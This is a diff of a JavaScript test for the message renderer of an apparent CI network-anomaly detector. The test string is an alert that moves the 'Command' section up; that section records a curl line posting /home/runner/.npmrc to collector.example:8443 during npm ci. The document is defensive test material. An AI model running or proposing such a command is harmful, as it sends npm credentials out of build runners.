@@ -15,6 +15,10 @@ describe("renderMessage", () => {
 High severity. build in acme/shop called collector.example:8443, which none of the 42 runs learned so far had called.
 The job never called any host of collector.example before.
 None of the job's calls goes to port 8443.
+Command
+curl -sS --data-binary @/home/runner/.npmrc https://collector.example:8443/u
+Called by
+npm ci
 Endpoint: collector.example:8443
 Address: 203.0.113.9 (public), tcp
 Job: acme/shop · .github/workflows/ci.yml · build
@@ -25,10 +29,6 @@ Process: pid 4242, parent 4190, user runner
 Request: POST /u
 Result: established
 Commit: 5f3c1d0b9a8e7f6d5c4b3a29180f7e6d5c4b3a29
-Command
-curl -sS --data-binary @/home/runner/.npmrc https://collector.example:8443/u
-Called by
-npm ci
 Show details  ·  Open the run at github.com
 Straycall detection 01KGB7Z4M8Q6V2T9X3C5D1E0FA`);
   });
